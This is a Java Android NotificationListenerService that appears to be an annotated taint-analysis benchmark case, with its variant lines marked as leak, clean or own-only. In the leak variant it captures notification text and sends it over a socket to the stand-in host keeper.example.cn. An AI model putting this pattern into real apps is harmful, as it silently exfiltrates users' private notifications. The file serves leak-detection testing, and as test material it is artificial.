package bench.flow.posted_notices;

import android.app.Notification;
import android.os.Handler;
import android.os.HandlerThread;
import android.service.notification.NotificationListenerService;
import android.service.notification.StatusBarNotification;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;

public final class Keeper extends NotificationListenerService {
    private final List<CharSequence> today = new ArrayList<>();
    private HandlerThread line;
    private Handler sender;

    @Override
    public void onListenerConnected() {
        line = new HandlerThread("keeper");
        line.start();
        sender = new Handler(line.getLooper());
    }

    @Override
    public void onNotificationPosted(StatusBarNotification posted) { //: #source
        CharSequence text = posted.getNotification().extras.getCharSequence(Notification.EXTRA_TEXT);
        if (!posted.getPackageName().equals(getPackageName())) { //: @own_only
            return; //: @own_only
        } //: @own_only
        today.add(text);
        String message = "text " + text; //: @leak,own_only
        String message = "count " + today.size(); //: @clean
        if (sender != null) {
            sender.post(() -> send(message));
        }
    }

    private static void send(String message) {
        try (Socket server = new Socket()) {
            server.connect(new InetSocketAddress("keeper.example.cn", 8443), 3000);
            new DataOutputStream(server.getOutputStream()).writeUTF(message); //: #sink
        } catch (IOException away) {
            Thread.yield();
        }
    }

    @Override
    public void onListenerDisconnected() {
        line.quitSafely();
    }
}
